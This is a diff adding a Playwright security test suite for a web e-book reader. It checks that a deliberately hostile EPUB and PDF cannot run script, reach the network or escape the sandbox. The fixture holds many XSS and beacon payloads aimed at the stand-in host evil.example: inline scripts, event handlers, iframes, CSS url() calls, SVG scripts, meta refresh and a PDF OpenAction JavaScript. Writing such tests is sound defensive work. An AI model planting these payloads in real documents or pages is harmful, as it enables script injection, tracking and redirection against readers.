@@ -1,0 +1,158 @@
+import { makeStoryEpub, makeStoryPdf } from '../../reader-books.ts'
+import { frame, open, pdfPages, place, storyEpub, test, watch } from './reader.ts'
+import { expect } from '../site.ts'
+
+test.describe('a hostile book', () => {
+  const evil = 'https://evil.example'
+  const trap = `window.caught=1;fetch('${evil}/f');parent.postMessage('x','*');top.location='${evil}'`
+  const hostile = makeStoryEpub({
+    head: `<script>${trap}</script><script src="${evil}/s.js"></script><base href="${evil}/"/><meta http-equiv="refresh" content="0;url=${evil}/m"/>
+      <link rel="stylesheet" href="${evil}/l.css"/><link rel="prefetch" href="${evil}/p"/><link rel="dns-prefetch" href="//evil.example"/>
+      <style>@import "${evil}/i.css"; body { background: url(${evil}/b.png) } p { background: u\\72l(${evil}/e.png) } @font-face { font-family: x; src: url('${evil}/x.woff2') } p { font-family: x }</style>
+      <link rel="stylesheet" href="own.css"/>`,
+    chapters: [
+      [
+        'Evening',
+        `<h1>Evening</h1><script>${trap}</script>
+        <p onclick="${trap}" style="background:url('${evil}/st.png')">Still a story.</p>
+        <img src="${evil}/t.png" onerror="${trap}" alt="tracker"/><img src="/api/storybooks" alt=""/><img srcset="${evil}/ss.png 2x" alt=""/>
+        <img src="pic.svg" alt="a moth"/>
+        <form action="${evil}/form" method="post"><p>Formless.</p><input name="q" autofocus="autofocus" onfocus="${trap}"/><button>Send</button></form>
+        <iframe src="${evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;${trap}&lt;/script&gt;"></iframe><object data="${evil}/o"></object><embed src="${evil}/em"/>
+        <video src="${evil}/v.mp4" poster="${evil}/po.png" autoplay="autoplay"></video><audio src="${evil}/a.mp3"></audio>
+        <svg xmlns="http://www.w3.org/2000/svg" onload="${trap}"><script>${trap}</script><image xlink:href="${evil}/si.png"/><use href="${evil}/u.svg#x"/><a xlink:href="${evil}/sa"><text y="20">svg</text></a>
+          <rect fill="url(${evil}/fill.svg#f)"/><animate attributeName="href" to="${evil}/an"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/fo"></iframe></foreignObject></svg>
+        <a href="${evil}/ping" ping="${evil}/pinged">A link.</a><details open="open" ontoggle="${trap}"><summary>More</summary></details>`,
+      ],
+    ],
+    files: [
+      {
+        name: 'own.css',
+        type: 'text/css',
+        content: `@import url("${evil}/own.css"); h1 { color: rgb(1, 2, 3); background: url("${evil}/own.png") }`,
+      },
+      {
+        name: 'pic.svg',
+        type: 'image/svg+xml',
+        content: `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>${trap}</script><image href="${evil}/pic.png"/><circle r="20"/></svg>`,
+      },
+    ],
+  })
+
+  test('is readable, runs no script and sends no request', async ({ page, put, site, tolerate }) => {
+    // Warnings about the original book, which is parsed in an inert document.
+    tolerate(/Setting the document's base URI|Executing inline event handler/)
+    const wrong = watch(page, site.url)
+    await open(page, put, { file: hostile, kind: 'epub' })
+    await expect(frame(page).getByText('Still a story.')).toBeVisible()
+    await expect(frame(page).getByRole('heading', { name: 'Evening' })).toHaveCSS('color', 'rgb(1, 2, 3)')
+    expect(
+      await frame(page)
+        .getByAltText('a moth')
+        .evaluate((image: HTMLImageElement) => image.naturalWidth),
+    ).toBe(40)
+    await frame(page).getByText('Still a story.').click()
+    await expect(
+      frame(page).locator('script, iframe, object, embed, form, input, button, base, meta, [onclick], [onload]'),
+    ).toHaveCount(0)
+    await page.waitForTimeout(500)
+    for (const one of page.frames())
+      expect(await one.evaluate(() => (window as { caught?: number }).caught)).toBeUndefined()
+    expect(wrong).toEqual([])
+    await expect(page).toHaveURL(/\/storytellers-lantern\/dreams\//)
+  })
+
+  test('could do nothing with a script: its frame has no origin, storage or network', async ({
+    page,
+    put,
+    site,
+    tolerate,
+  }) => {
+    tolerate(/Content Security Policy|blocked|Blocked|ERR_BLOCKED|evil\.example|sandboxed|Refused/)
+    const reached: string[] = []
+    await page.route(/evil\.example/, (route) => {
+      reached.push(route.request().url())
+      return route.fulfill({ body: 'reached' })
+    })
+    await open(page, put, { file: storyEpub, kind: 'epub' })
+    const book = page.frames().find((one) => one !== page.mainFrame())!
+    const tries = await book.evaluate(
+      async ([elsewhere, home]) => {
+        const outcome = (attempt: () => unknown) => {
+          try {
+            attempt()
+            return 'let'
+          } catch {
+            return 'refused'
+          }
+        }
+        const image = (src: string) =>
+          new Promise((resolve) => {
+            const picture = new Image()
+            picture.addEventListener('load', () => resolve('let'))
+            picture.addEventListener('error', () => resolve('refused'))
+            picture.src = src
+          })
+        const ran = () => {
+          const script = document.createElement('script')
+          script.text = 'window.ran = 1'
+          document.body.append(script)
+          document.body.insertAdjacentHTML('beforeend', '<details open ontoggle="window.ran = 1">x</details>')
+          return (window as { ran?: number }).ran === undefined ? 'refused' : 'let'
+        }
+        const called = (url: string) =>
+          fetch(url, { mode: 'no-cors' }).then(
+            () => 'let',
+            () => 'refused',
+          )
+        return {
+          origin: window.origin,
+          storage: outcome(() => localStorage.length),
+          cookies: outcome(() => document.cookie),
+          parent: outcome(() => parent.document.title),
+          script: ran(),
+          fetched: await called(`${elsewhere}/f`),
+          fetchedHome: await called(`${home}/api/storybooks`),
+          image: await image(`${elsewhere}/i.png`),
+          imageHome: await image(`${home}/favicon.ico`),
+          opened: String(window.open(`${elsewhere}/w`)),
+        }
+      },
+      ['https://evil.example', site.url] as const,
+    )
+    expect(tries).toEqual({
+      origin: 'null',
+      storage: 'refused',
+      cookies: 'refused',
+      parent: 'refused',
+      script: 'refused',
+      fetched: 'refused',
+      fetchedHome: 'refused',
+      image: 'refused',
+      imageHome: 'refused',
+      opened: 'null',
+    })
+    await book
+      .evaluate((url) => {
+        location.href = url
+      }, 'https://evil.example/away')
+      .catch(() => {})
+    await expect(page.getByRole('heading', { name: 'This book will not open' })).toBeVisible()
+    expect(reached).toEqual([])
+    await expect(page).toHaveURL(/\/storytellers-lantern\/dreams\//)
+  })
+
+  test('as a PDF runs no action and shows only pages that exist', async ({ page, put, site }) => {
+    const wrong = watch(page, site.url)
+    const catalog =
+      '/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\); window.caught = 1) >> /AA << /WC << /S /URI /URI (https://evil.example) >> >>'
+    await page.goto(
+      await put({ file: makeStoryPdf({ pages: pdfPages(3), catalog, claims: 1_000_000_000 }), kind: 'pdf' }),
+    )
+    await expect(place(page)).toHaveText(/^Pages? 1.* of /)
+    await expect(page.locator('.pdf-page').first()).toContainText('Stump 1a')
+    expect(await page.evaluate(() => (window as { caught?: number }).caught)).toBeUndefined()
+    expect(await page.locator('.pdf-page').count()).toBeLessThan(200)
+    expect(wrong).toEqual([])
+  })
+})
